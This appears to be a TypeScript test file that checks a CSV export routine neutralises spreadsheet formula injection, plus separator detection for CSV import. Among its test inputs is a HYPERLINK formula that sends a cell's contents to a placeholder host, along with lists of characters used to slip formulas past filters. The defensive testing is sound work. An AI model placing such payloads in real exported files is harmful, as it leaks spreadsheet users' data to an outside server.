/**
 * CSV cells that a spreadsheet could run as formulas (shared/csv.ts), as the server's exports (server/lib/csv.ts:
 * the export zip, the activity CSV) and the browser's report downloads write them.
 */
import { describe, expect, it } from 'vitest';
import { detectSeparator, looksLikeFormula, withoutFormulaGuard } from '../../shared/csv';
import { csvCell } from '../../server/lib/csv';
import { csvCell as reportCsvCell, toCsv } from '../../client/src/features/reports/csv';
import { csvHead } from '../../client/src/features/data/csvHead';
import { readCsv } from '../../server/data/import-csv';

/** Every character that starts a formula (or a new line) when it comes first: ASCII, full-width, and the rest. */
const STARTERS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\u30FC'];
const LINE_STARTS = ['\t', '\r', '\n'];
/** What may come before a starter and still leave it first for a spreadsheet: spaces, control and invisible characters. */
const PADDING = [' ', '   ', '\t', '\r\n', '\u00A0', '\u3000', '\u200B', '\uFEFF', '\u0000', '\u001F'];

describe('csvCell (formula-safe CSV text)', () => {
  it.each(STARTERS)('gives a cell that starts with %j an apostrophe', (c) => {
    expect(csvCell(`${c}HYPERLINK("http://x.test?"&A1)`)).toBe(`"'${c}HYPERLINK(""http://x.test?""&A1)"`);
    expect(csvCell(`${c}1+1`)).toBe(`'${c}1+1`);
    expect(reportCsvCell(`${c}1+1`)).toBe(`'${c}1+1`);
  });

  it.each(LINE_STARTS)('gives a cell that starts with %j an apostrophe, whatever follows', (c) => {
    const cell = csvCell(`${c}plain`);
    expect(cell.startsWith(`"'${c}`) || cell.startsWith(`'${c}`)).toBe(true);
  });

  it.each(PADDING)('looks past leading %j to the formula character', (pad) => {
    for (const c of STARTERS) expect(looksLikeFormula(`${pad}${c}1+1`), `${JSON.stringify(pad)} then ${c}`).toBe(true);
    expect(looksLikeFormula(`${pad}Alder`)).toBe(/^[\t\r\n]/.test(pad));
  });

  it('guards the usual look-alike data too: a negative amount or a phone number written as text', () => {
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell('+1 555 0100')).toBe("'+1 555 0100");
    expect(csvCell('@handle')).toBe("'@handle");
    // Numbers (in the report downloads) are data, written as they are.
    expect(reportCsvCell(-5)).toBe('-5');
    expect(toCsv(['n', 'name'], [[-5, '=1']])).toBe("n,name\r\n-5,'=1\r\n");
  });

  it('leaves ordinary text alone, formula characters inside it included, and the look-alikes no spreadsheet reads', () => {
    for (const text of [
      'plain',
      'Alder & Co.',
      'a-b',
      'x=1',
      'ops@example.test',
      '１２３',
      '−5',
      '\uFE66 1',
      '\uFE62 1',
      '\uFE63 1',
      '\uFE6B x',
      '',
      "'=already",
    ]) {
      expect(looksLikeFormula(text), text).toBe(false);
    }
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
  });

  it('reads back without the apostrophe it added (only that one)', () => {
    for (const text of ['=1+1', '\uFF1D1', '  -x', '\t1', "'plain", 'plain']) {
      const written = csvCell(text)
        .replace(/^"(.*)"$/s, '$1')
        .replace(/""/g, '"');
      expect(withoutFormulaGuard(written)).toBe(text);
    }
  });
});

describe('detectSeparator (the CSV import, server and browser)', () => {
  it('takes the separator the header line uses most', () => {
    expect(detectSeparator('a,b,c\n1,2,3')).toBe(',');
    expect(detectSeparator('a;b;c\n1;2;3')).toBe(';');
    expect(detectSeparator('a\tb\tc\n1\t2\t3')).toBe('\t');
    expect(detectSeparator('Name;Note,with comma;City\n')).toBe(';');
  });

  it('reads only the header line, and not inside quotes', () => {
    expect(detectSeparator('a;b\n1,2,3,4,5')).toBe(';');
    expect(detectSeparator('a;b\r\n1,2,3,4,5')).toBe(';');
    expect(detectSeparator('"x,y,z";b;c\n')).toBe(';');
    expect(detectSeparator('"line\nbreak,,,";b;c')).toBe(';');
  });

  it('falls back to the comma, and a tie goes to the earlier of comma, semicolon and tab', () => {
    expect(detectSeparator('')).toBe(',');
    expect(detectSeparator('single\n1')).toBe(',');
    expect(detectSeparator('a,b;c')).toBe(',');
    expect(detectSeparator('a;b\tc')).toBe(';');
  });

  it('is what both the server and the browser split a file with', () => {
    const text = 'First;Last;Note\nAna;Silva;"a, b"\n';
    expect(csvHead(text)).toEqual({ headers: ['First', 'Last', 'Note'], first: ['Ana', 'Silva', 'a, b'] });
    const table = readCsv(Buffer.from(text));
    expect(table.headers).toEqual(['First', 'Last', 'Note']);
    expect(table.rows[0].cells).toEqual(['Ana', 'Silva', 'a, b']);
  });
});
